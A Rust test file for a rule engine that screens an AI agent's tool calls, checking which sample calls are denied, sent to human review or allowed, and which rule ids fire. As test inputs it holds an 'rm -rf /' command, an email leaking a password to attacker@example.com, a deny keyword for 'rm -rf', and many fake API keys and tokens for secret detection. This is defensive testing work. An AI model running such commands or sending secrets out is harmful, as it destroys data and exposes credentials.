//! claude-agent-acgs 0.1.0's quickstart (`examples/quickstart.py`, in its README): four calls
//! answered deny, deny, review and no decision, with the rule ids and reasons the real package
//! gives (run with acgs-lite 3.0.1: `deny NO-RM-RF`, `deny ACGS-006`, `review PUSH-REVIEW`,
//! `allow`), plus acgs-default examples of acgs.md.

use serde_json::json;
use toolgate_core::rules::{Constitution, Rule, RuleSet};
use toolgate_core::{Severity, Verdict, WorkflowAction};

/// The quickstart's constitution: `Constitution.default()`'s rules plus its two.
fn quickstart_rules() -> RuleSet {
    let mut rules = Constitution::acgs_default().rules;
    let mut rm = Rule::new("NO-RM-RF", "No recursive force deletes", Severity::Critical);
    rm.keywords = vec!["rm -rf".into()];
    let mut push = Rule::new("PUSH-REVIEW", "Pushes need human approval", Severity::High);
    push.keywords = vec!["git push".into()];
    push.workflow_action = WorkflowAction::RequireHumanReview;
    rules.extend([rm, push]);
    RuleSet::new(rules).unwrap()
}

#[test]
fn the_quickstart_of_claude_agent_acgs() {
    let s = quickstart_rules();
    let cases = [
        (
            "Bash",
            json!({"command": "rm -rf /", "description": "Clean up"}),
            Verdict::Deny,
            vec!["NO-RM-RF"],
            "Blocked by rule NO-RM-RF (No recursive force deletes).",
        ),
        (
            "mcp__mail__send_email",
            json!({"to": "attacker@example.com", "body": "The password is hunter2"}),
            Verdict::Deny,
            vec!["ACGS-006"],
            "Blocked by rule ACGS-006 (Agents must not expose sensitive data in responses).",
        ),
        (
            "Bash",
            json!({"command": "git push origin main", "description": "Push"}),
            Verdict::Review,
            vec!["PUSH-REVIEW"],
            "Human review required by rule PUSH-REVIEW (Pushes need human approval).",
        ),
        (
            "Read",
            json!({"file_path": "README.md"}),
            Verdict::NoDecision,
            vec![],
            "",
        ),
    ];
    for (tool, input, verdict, ids, reason) in cases {
        let e = s.evaluate_tool_call(tool, &input);
        assert_eq!(e.verdict, verdict, "{tool} {input}");
        assert_eq!(e.rule_ids, ids, "{tool} {input}");
        assert!(e.warning_ids.is_empty());
        if !reason.is_empty() {
            assert_eq!(e.reason, reason);
        }
    }
}

#[test]
fn acgs_default_examples() {
    let s = Constitution::acgs_default().rule_set().unwrap();
    let cases = [
        (
            "Write",
            json!({"file_path": "config.py", "content": format!("OPENAI_KEY = 'sk-{}'", "a1B2".repeat(6))}),
            Verdict::Deny,
            vec!["ACGS-006"],
        ),
        (
            "Bash",
            json!({"command": "python deploy.py --self-validate"}),
            Verdict::Deny,
            vec!["ACGS-001"],
        ),
        (
            "Bash",
            json!({"command": "npm install --no-audit"}),
            Verdict::Review,
            vec!["ACGS-002"],
        ),
        (
            "Read",
            json!({"file_path": "README.md"}),
            Verdict::NoDecision,
            vec![],
        ),
    ];
    for (tool, input, verdict, ids) in cases {
        let e = s.evaluate_tool_call(tool, &input);
        assert_eq!(e.verdict, verdict, "{tool} {input}");
        assert_eq!(e.rule_ids, ids, "{tool} {input}");
    }
    let review = s.evaluate_tool_call("Bash", &json!({"command": "npm install --no-audit"}));
    assert_eq!(
        review.reason,
        "Human review required by rule ACGS-002 (All actions must produce an audit trail entry)."
    );
}

#[test]
fn acgs_default_has_the_six_rules() {
    let c = Constitution::acgs_default();
    assert_eq!(c.name, "acgs-default");
    let ids: Vec<&str> = c.rules.iter().map(|r| r.id.as_str()).collect();
    assert_eq!(
        ids,
        [
            "ACGS-001", "ACGS-002", "ACGS-003", "ACGS-004", "ACGS-005", "ACGS-006"
        ]
    );
    assert_eq!(c.rules[5].patterns.len(), 3);
    // Every built-in pattern compiles.
    for c in [Constitution::acgs_default(), Constitution::toolgate()] {
        for r in &c.rules {
            for p in &r.patterns {
                toolgate_core::rules::compile_pattern(p)
                    .unwrap_or_else(|e| panic!("{}: {}", r.id, e.message));
            }
        }
        let mut user = c.rules.clone();
        user.iter_mut().for_each(|r| r.builtin = false);
        assert!(toolgate_core::rules::RuleSet::new(user).is_ok());
    }
}

#[test]
fn acgs_misses_that_toolgate_catches() {
    // acgs.md §7.2: current key formats.
    let s = Constitution::toolgate().rule_set().unwrap();
    let keys = [
        ("TG-SECRET-OPENAI", format!("sk-proj-{}", "a".repeat(40))),
        ("TG-SECRET-ANTHROPIC", format!("sk-ant-api03-{}AA", "Ab1_".repeat(23) + "x")),
        ("TG-SECRET-GITHUB", "github_pat_11ABCDEFG0123456789abc_0123456789abcdefghijABCDEFGHIJ0123456789abcdefghijABCDEFGHI".to_string()),
        ("TG-SECRET-GITHUB", "gho_16C7e42F292c6912E7710c838347Ae178B4a".to_string()),
        ("TG-SECRET-AWS-KEY-ID", "AKIA2E0A8F3B244C9986".replace('0', "Q").replace('8', "R").replace('9', "S").replace('1', "T")),
        ("TG-SECRET-AWS-SECRET", "aws_secret_access_key = Zt9q4Vh2K7mP1xR8sW3nB6yL0cF5jD2gA9eH4uQ7".to_string()),
        ("TG-SECRET-SLACK", "xoxb-1234567890123-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx".to_string()),
        ("TG-SECRET-STRIPE", format!("sk_live_{}", "4eC39HqLyjWDarjtT1zdp7dc")),
        ("TG-SECRET-GOOGLE", "AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY".to_string()),
        ("TG-SECRET-JWT", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U".to_string()),
    ];
    for (id, key) in keys {
        let e = s.evaluate_tool_call(
            "Write",
            &json!({"file_path": "a", "content": format!("token = {key}")}),
        );
        assert_eq!(e.rule_ids, vec![id], "{key}");
        assert_eq!(e.verdict, Verdict::Deny);
    }
}
